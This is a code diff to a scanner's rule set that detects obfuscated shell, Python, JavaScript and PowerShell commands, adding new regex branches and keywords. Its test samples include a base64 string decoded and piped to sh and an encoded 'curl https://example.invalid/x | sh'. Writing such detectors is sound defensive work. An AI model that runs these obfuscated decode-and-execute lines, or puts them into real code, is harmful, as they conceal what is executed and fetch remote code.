@@ -51,9 +51,11 @@ export const OBFUSCATION_RULES: Rule[] = [
         'unescape',
         'codecs',
         'frombase64',
+        'printf',
+        'echo -e',
       ],
       pattern:
-        /(?:\bbase64 (?:-d|-D|--decode)\b|\bxxd -r\b|\bopenssl (?:base64|enc) [^\n|]{0,40}-d\b|\brev\b|\btr ['"]?[A-Za-z]-[A-Za-z])[^\n|]{0,80}(?:\|[^\n|]{0,40}){0,2}\|\s{0,4}(?:sudo )?(?:(?:ba|z|da)?sh|python[23]?|node|perl)\b|(?:\beval|\b(?:ba|z)?sh -c)\s{0,4}["']?(?:\$\(|`)[^\n]{0,160}(?:base64 (?:-d|-D|--decode)|xxd -r)|\b(?:exec|eval|compile|__import__\(['"]builtins['"]\)\.exec)\(.{0,60}(?:b64decode|b32decode|fromhex|unhexlify|zlib\.decompress|gzip\.decompress|lzma\.decompress|marshal\.loads|codecs\.decode|rot_?13|decode\(['"](?:base64|hex|rot))|\b(?:eval|Function|setTimeout|execSync|exec)\(.{0,40}(?:\batob\(|Buffer\.from\(.{0,400}['"](?:base64|hex)|unescape\()|\bpowershell(?:\.exe)?\b[^\n]{0,80}\s-e(?:nc|ncodedcommand)?\s{1,3}[A-Za-z0-9+/=]{16}|FromBase64String\(.{0,200}\biex\b|\biex\b.{0,80}FromBase64String/i,
+        /(?:\bbase64 (?:-d|-D|--decode)\b|\bxxd -r\b|\bopenssl (?:base64|enc) [^\n|]{0,40}-d\b|\brev\b|\btr ['"]?[A-Za-z]-[A-Za-z])[^\n|]{0,80}(?:\|[^\n|]{0,40}){0,2}\|\s{0,4}(?:sudo )?(?:(?:ba|z|da)?sh|python[23]?|node|perl)\b|(?:\beval|\b(?:ba|z)?sh -c)\s{0,4}["']?(?:\$\(|`)[^\n]{0,160}(?:base64 (?:-d|-D|--decode)|xxd -r)|\b(?:exec|eval|compile|__import__\(['"]builtins['"]\)\.exec)\(.{0,60}(?:b64decode|b32decode|fromhex|unhexlify|zlib\.decompress|gzip\.decompress|lzma\.decompress|marshal\.loads|codecs\.decode|rot_?13|decode\(['"](?:base64|hex|rot))|\bexec\b.{0,100}\.decompress\(|\b(?:eval|Function|setTimeout|execSync|exec)\(.{0,40}(?:\batob\(|Buffer\.from\(.{0,400}['"](?:base64|hex)|unescape\()|\beval\s{0,3}["']?\$\(\s{0,3}(?:printf|echo -e)\s{1,3}["']?(?:\\\\?x[0-9a-f]{2}|\\\\?[0-7]{3})|\bpowershell(?:\.exe)?\b[^\n]{0,80}\s-e(?:nc|ncodedcommand)?\s{1,3}[A-Za-z0-9+/=]{16}|FromBase64String\(.{0,200}\biex\b|\biex\b.{0,80}FromBase64String/i,
     },
     hits: [
       sh('echo ZWNobyBoaQ== | base64 -d | sh'),
@@ -77,7 +79,7 @@ export const OBFUSCATION_RULES: Rule[] = [
     why: 'Written in base64, hex or escapes, nobody sees what it is; decoded, it is a program or a command.',
     fix: 'Decode it, read it, and have the author write it out.',
     where: PLAIN_WHERE,
-    detector: { kind: 'span', needles: [], find: (_span, text) => findBlobs(text) },
+    detector: { kind: 'span', needles: [], find: ({ text }) => findBlobs(text) },
     hits: [
       py(`P = "${Buffer.from('import os; os.system("curl https://example.invalid/x | sh")').toString('base64')}"`),
       js(
@@ -132,6 +134,7 @@ export const OBFUSCATION_RULES: Rule[] = [
         '${ifs',
         'getattr',
         '__import__',
+        'import_module',
         '__builtins__',
         "'+'",
         '"+"',
@@ -141,7 +144,7 @@ export const OBFUSCATION_RULES: Rule[] = [
         'globalthis[',
       ],
       pattern:
-        /(?:^|[\s;|&(])(?:c(?:''|""|\\|\$@)u|cu(?:''|""|\\|\$@)r|cur(?:''|""|\\|\$@)l|w(?:''|""|\\|\$@)g|wg(?:''|""|\\|\$@)e|b(?:''|""|\\|\$@)a|ba(?:''|""|\\|\$@)s|e(?:''|""|\\|\$@)v|ev(?:''|""|\\|\$@)a|ba?s?h?\$\{?IFS)[a-z''""\\$@]{0,12}|\$\{?IFS\}?[a-z-]|__import__\(\s{0,3}["'][a-z_]{1,12}["']\s{0,3}\+|getattr\(\s{0,3}(?:__builtins__|builtins|os|subprocess|__import__\()[^,\n]{0,30},\s{0,3}["'][a-z]{1,10}["']\s{0,3}\+|getattr\(\s{0,3}__builtins__|(?:globalThis|window|global)\[\s{0,3}["'][a-z]{1,10}["']\s{0,3}\+/,
+        /(?:^|[\s;|&(])(?:c(?:''|""|\\|\$@)u|cu(?:''|""|\\|\$@)r|cur(?:''|""|\\|\$@)l|w(?:''|""|\\|\$@)g|wg(?:''|""|\\|\$@)e|b(?:''|""|\\|\$@)a|ba(?:''|""|\\|\$@)s|e(?:''|""|\\|\$@)v|ev(?:''|""|\\|\$@)a|ba?s?h?\$\{?IFS)[a-z''""\\$@]{0,12}|\$\{?IFS\}?[a-z-]|__import__\(\s{0,3}["'][a-z_]{1,12}["']\s{0,3}\+|getattr\(\s{0,3}(?:__builtins__|builtins|os|subprocess|__import__\()[^,\n]{0,30},\s{0,3}["'][a-z]{1,10}["']\s{0,3}\+|getattr\(\s{0,3}__builtins__|import_module\(\s{0,3}["'][a-z_]{1,12}["']\s{0,3}\+|(?:globalThis|window|global)\[\s{0,3}["'][a-z]{1,10}["']\s{0,3}\+/,
     },
     hits: [
       sh("c''url -s https://example.invalid"),
